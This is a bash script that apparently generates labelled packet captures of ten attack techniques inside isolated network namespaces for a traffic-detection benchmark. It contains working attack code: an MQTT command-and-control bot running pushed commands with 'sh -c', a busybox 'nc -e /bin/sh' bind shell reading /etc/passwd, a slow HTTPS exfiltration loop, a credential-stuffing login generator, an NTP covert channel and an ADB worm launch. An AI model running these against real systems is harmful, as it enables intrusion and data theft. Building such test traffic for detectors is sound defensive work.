#!/usr/bin/env bash
# A SEVENTH fresh attack set ("f7-*"): techniques none of the earlier sets used, made with real tools (and small
# bounded Python programs where no packaged tool does the job) between network namespaces. Quiet C2 that IoT malware
# and intruders use: MQTT over TLS with the broker pushing tasks (mosquitto), a gRPC-shaped channel in one HTTP/2
# connection over TLS (python3-h2), a Stratum miner inside TLS, a covert channel in NTP's timestamp and reference
# fields, a bind shell on the device that an operator on the internet connects to (busybox nc -e); misuse: a slow
# trickle of small HTTPS POSTs (exfiltration), credential stuffing of a JSON login API over keep-alive TLS (curl),
# an ADB.Miner-style worm (random internet addresses on 5555, the ADB protocol to those that answer); and LAN
# reconnaissance by NetBIOS node status (nbtscan, against nmbd) and by mDNS / SSDP discovery with description fetches.
# The lab is fresh-lab.sh's (attacker = the device 10.66.0.10 02:66:00:00:00:10, victim 10.66.0.20
# 02:66:00:00:00:20, dummies .31-.34, a routed "internet" 10.128.0.0/9 behind the victim), with its own namespaces
# (prefix f7-) and veth names (f7p-*). Internet hosts are /32 addresses on the victim's lo (10.128.92.x, the ADB
# targets 10.128.55.7, 10.128.160.19, 10.128.201.3); every other 10.128/9 address is on no host (the device's
# packets to it end at its gateway, the victim). Each id's servers are started before its capture, stopped after.
# tcpdump on the device's veth; OUT/attacks/<id>.pcap and OUT/attacks/index.jsonl (gen-attacks.sh's format).
# Every tool runs under `timeout`, every loop is bounded; namespaces are removed on exit.
#
# Tools (Debian): mosquitto mosquitto-clients python3-h2 nbtscan samba (nmbd) busybox curl openssl tcpdump
#   wireshark-common bc
# Helpers (fresh7/): grpc-c2.py, stratum-tls.py, ntp-covert.py, adb-worm.py, lan-recon.py; ../victim-httpd.py.
#
# Usage: bash bench/behavior/fresh7/gen-fresh7.sh [--out DIR (default /work/behavior-bench-fresh7)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh7
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f7 GEN=gen-fresh7
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

# ---------- network ----------
lab_network
# no IGMP snooping on the lab bridge: multicast (mDNS, SSDP) reaches every port without a querier
ns sw ip link set br0 type bridge mcast_snooping 0
sleep 1

# ---------- "internet" hosts ----------
# .92.21 MQTT broker (8883), .92.22 gRPC C2 (443), .92.23 upload endpoint (443), .92.24 login API (443),
# .92.25 mining pool (14433), .92.26 NTP server, .92.30 the bind shell's operator; ADB targets .55.7 .160.19 .201.3
internet_hosts 10.128.92.21 10.128.92.22 10.128.92.23 10.128.92.24 10.128.92.25 10.128.92.26 10.128.92.30 \
  10.128.55.7 10.128.160.19 10.128.201.3
lab_tls_cert "api.fleet-telemetry.example"
export NET VIC_IP ATT_IP W PY HERE LAB


# ---------- 1. MQTT over TLS: the bot subscribes to its task topic, the broker pushes 9 tasks, results published ----------
if want f7-mqtts-c2; then
  cat > "$W/mosquitto.conf" <<EOF2
user root
persistence false
log_dest stderr
listener 8883 10.128.92.21
certfile $W/tls.crt
keyfile $W/tls.key
allow_anonymous true
EOF2
  srv vic 200 mosquitto -c "$W/mosquitto.conf"
  MQ_PID=$BG
  sleep 1
  # the operator's console, on the broker's side (not on the device's link): a task every 6-12 s
  cat > "$W/mq-operator.sh" <<'EOS'
sleep 8
for c in "id" "uname -a" "cat /proc/cpuinfo | head -5" "ls -la /tmp" "ps | head -8" "cat /etc/passwd" \
  "ip -4 route" "df -h | head -4" "uptime"; do
  timeout 5 mosquitto_pub -h 10.128.92.21 -p 8883 --cafile "$W/tls.crt" --insecure -i op1 -q 1 -t c/7f3a/task -m "$c"
  sleep $((6 + RANDOM % 7))
done
EOS
  srv vic 150 bash "$W/mq-operator.sh"
  OP_PID=$BG
  cat > "$W/mq-bot.sh" <<'EOS'
M="-h 10.128.92.21 -p 8883 --cafile $W/tls.crt --insecure -q 1"
timeout 5 mosquitto_pub $M -i bot7f3a-r -t c/7f3a/hello -m '{"bot":"7f3a","arch":"armv7l","v":"1.9"}' || true
timeout 110 mosquitto_sub $M -i bot7f3a -k 30 -t c/7f3a/task -C 9 | while IFS= read -r cmd; do
  out=$(timeout 5 sh -c "$cmd" 2>&1 | head -c 1500 | base64 -w0)
  timeout 5 mosquitto_pub $M -i bot7f3a-r -t c/7f3a/out -m "$out" || true
done
EOS
  CAP_VIC_IP=10.128.92.21 cap f7-mqtts-c2 c2 mosquitto-mqtt-tls-8883 attacker public false 130 bash "$W/mq-bot.sh"
  stopbg "$OP_PID"
  stopbg "$MQ_PID"
fi

# ---------- 2. gRPC-shaped C2: one HTTP/2 connection over TLS on 443, tasks pushed on a streaming call ----------
if want f7-grpc-h2-c2; then
  srv vic 200 $PY "$HERE/grpc-c2.py" server 10.128.92.22 443 "$W/tls.crt" "$W/tls.key"
  G_PID=$BG
  sleep 2
  CAP_VIC_IP=10.128.92.22 cap f7-grpc-h2-c2 c2 python-h2-grpc-stream attacker public false 110 \
    $PY "$HERE/grpc-c2.py" client 10.128.92.22 443 90
  stopbg "$G_PID"
fi

# ---------- 3. a bind shell on the device (busybox nc -e on 9999), an operator on the internet connects and types ----------
if want f7-nc-bind-shell; then
  cat > "$W/bind.sh" <<'EOS'
timeout 80 busybox nc -l -p 9999 -e /bin/sh &
L=$!
sleep 3
# the operator, from the internet (the victim's namespace, source 10.128.92.30): whole command lines, some pauses
( sleep 2; for c in "id" "uname -a" "cat /proc/version" "ls -la /" "cat /etc/passwd" "ps" "netstat -an | head -20" \
    "cat /proc/meminfo | head -5" "ls /tmp" "exit"; do echo "$c"; sleep $((2 + RANDOM % 5)); done ) |
  ip netns exec "$LAB-vic" timeout 70 busybox nc 10.66.0.10 9999 >/dev/null 2>&1 || true
wait $L 2>/dev/null || true
EOS
  # busybox nc cannot pick its source address: the operator's route to the device goes from 10.128.92.30
  ns vic ip route replace 10.66.0.10/32 dev eth0 src 10.128.92.30
  CAP_VIC_IP=10.128.92.30 cap f7-nc-bind-shell c2 busybox-nc-bind-shell attacker public false 90 bash "$W/bind.sh"
  ns vic ip route del 10.66.0.10/32 dev eth0 src 10.128.92.30 || true
fi

# ---------- 4. a trickle of small HTTPS POSTs: ~200 kB in 50 POSTs of 4 kB, 2-4 s apart, a new connection each ----------
if want f7-https-trickle-exfil; then
  srv vic 250 $PY "$HERE/../victim-httpd.py" 10.128.92.23 443 "$W/tls.crt" "$W/tls.key"
  H_PID=$BG
  sleep 2
  mkdir -p "$W/trickle"
  for i in $(seq -w 1 50); do head -c 3000 /dev/urandom | base64 -w0 > "$W/trickle/$i"; done
  cat > "$W/trickle.sh" <<'EOS'
for f in "$W"/trickle/*; do
  timeout 10 curl -sk -m 8 -o /dev/null -A "Mozilla/5.0 (Linux; Android 9)" -H "Content-Type: text/plain" \
    --data-binary "@$f" "https://10.128.92.23/api/v2/metrics?d=$(basename "$f")" || true
  sleep $((2 + RANDOM % 3)).$((RANDOM % 10))
done
EOS
  CAP_VIC_IP=10.128.92.23 cap f7-https-trickle-exfil exfil curl-https-post-trickle attacker public false 220 bash "$W/trickle.sh"
  stopbg "$H_PID"
fi

# ---------- 5. credential stuffing: 240 logins POSTed to one JSON API over keep-alive TLS (curl -K, 4 a second) ----------
if want f7-cred-stuffing-api; then
  srv vic 150 $PY "$HERE/../victim-httpd.py" 10.128.92.24 443 "$W/tls.crt" "$W/tls.key"
  H_PID=$BG
  sleep 2
  $PY - "$W/stuff.curl" <<'PYEOF'
import random, sys
rnd = random.Random(24)
first = ["anna", "mark", "j.smith", "lisa", "tom", "k.lee", "maria", "paul", "nina", "alex", "chris", "sara"]
dom = ["gmail.com", "yahoo.com", "outlook.com", "hotmail.com", "gmx.de", "mail.ru"]
with open(sys.argv[1], "w") as f:
    for i in range(240):
        u = f"{rnd.choice(first)}{rnd.randint(1, 9999)}@{rnd.choice(dom)}"
        p = "".join(rnd.choice("abcdefghijkmnpqrstuvwxyz0123456789") for _ in range(rnd.randint(8, 12)))
        f.write('url = "https://10.128.92.24/api/v1/auth/login"\ninsecure\nsilent\noutput = "/dev/null"\n'
                'header = "Content-Type: application/json"\nuser-agent = "okhttp/4.9.3"\n'
                f'data = "{{\\"email\\":\\"{u}\\",\\"password\\":\\"{p}\\"}}"\n')
        if i < 239:
            f.write("next\n")
PYEOF
  CAP_VIC_IP=10.128.92.24 cap f7-cred-stuffing-api credential curl-https-json-login-stuffing attacker public false 120 \
    curl --rate 240/m -K "$W/stuff.curl"
  stopbg "$H_PID"
fi

# ---------- 6. NetBIOS node-status sweep of the LAN (nbtscan), nmbd on three neighbours ----------
if want f7-nbtscan-lan; then
  NB=()
  for h in vic:20:FILESRV d31:31:NAS-BACKUP d32:32:OFFICE-PC7; do
    n=${h%%:*} rest=${h#*:} o=${rest%%:*} nm=${rest#*:}
    mkdir -p "$W/nmb-$n"
    cat > "$W/nmb-$n/smb.conf" <<EOF2
[global]
netbios name = $nm
workgroup = OFFICE
interfaces = $NET.$o/24
bind interfaces only = yes
lock directory = $W/nmb-$n
state directory = $W/nmb-$n
cache directory = $W/nmb-$n
pid directory = $W/nmb-$n
private dir = $W/nmb-$n
log file = $W/nmb-$n/log
disable netbios = no
EOF2
    srv "$n" 150 nmbd -F --no-process-group -s "$W/nmb-$n/smb.conf"
    NB+=("$BG")
  done
  sleep 3
  printf '%s\n' $NET.20 $NET.31 $NET.32 > "$W/nbt-hosts"
  cap f7-nbtscan-lan recon nbtscan-netbios-node-status attacker lan false 60 \
    bash -c "nbtscan -r $NET.0/24; sleep 4; nbtscan -v -h -f $W/nbt-hosts"
  for p in "${NB[@]}"; do stopbg "$p"; done
fi

# ---------- 7. LAN reconnaissance by mDNS and SSDP, then every device description fetched ----------
if want f7-mdns-ssdp-recon; then
  RR=()
  for h in d31:31:printer d32:32:tv d33:33:nas vic:20:router; do
    n=${h%%:*} rest=${h#*:} o=${rest%%:*} k=${rest#*:}
    srv "$n" 150 $PY "$HERE/lan-recon.py" responder "$NET.$o" "$k"
    RR+=("$BG")
  done
  sleep 2
  cap f7-mdns-ssdp-recon recon python-mdns-ssdp-discovery attacker lan false 90 \
    $PY "$HERE/lan-recon.py" client "$ATT_IP" 3 15
  for p in "${RR[@]}"; do stopbg "$p"; done
fi

# ---------- 8. a miner speaking Stratum inside TLS to a pool on 14433 ----------
if want f7-stratum-tls-miner; then
  srv vic 200 $PY "$HERE/stratum-tls.py" server 10.128.92.25 14433 "$W/tls.crt" "$W/tls.key"
  S_PID=$BG
  sleep 2
  CAP_VIC_IP=10.128.92.25 cap f7-stratum-tls-miner c2 python-stratum-tls-14433 attacker public false 120 \
    $PY "$HERE/stratum-tls.py" client 10.128.92.25 14433 100
  stopbg "$S_PID"
fi

# ---------- 9. a covert channel in NTP fields: 40 client requests from 123 carrying 8 bytes each ----------
if want f7-ntp-covert; then
  srv vic 200 $PY "$HERE/ntp-covert.py" server 10.128.92.26
  N_PID=$BG
  sleep 1
  head -c 320 /etc/services > "$W/ntp-payload"
  CAP_VIC_IP=10.128.92.26 cap f7-ntp-covert c2 python-ntp-field-covert attacker public false 150 \
    $PY "$HERE/ntp-covert.py" client 10.128.92.26 40 "$W/ntp-payload"
  stopbg "$N_PID"
fi

# ---------- 10. an ADB.Miner-style worm: 240 random internet addresses on 5555, ADB shells on the 3 that answer ----------
if want f7-adb-worm; then
  srv vic 200 $PY "$HERE/adb-worm.py" server 5555
  A_PID=$BG
  sleep 1
  CAP_WAN=$WAN CAP_VIC_IP=10.128.55.7 cap f7-adb-worm lateral python-adb-worm-5555 attacker wan false 90 \
    $PY "$HERE/adb-worm.py" client 10.128 240 10.128.55.7,10.128.160.19,10.128.201.3 http://10.128.92.40/adbm
  stopbg "$A_PID"
fi

# ---------- index ----------
lab_index
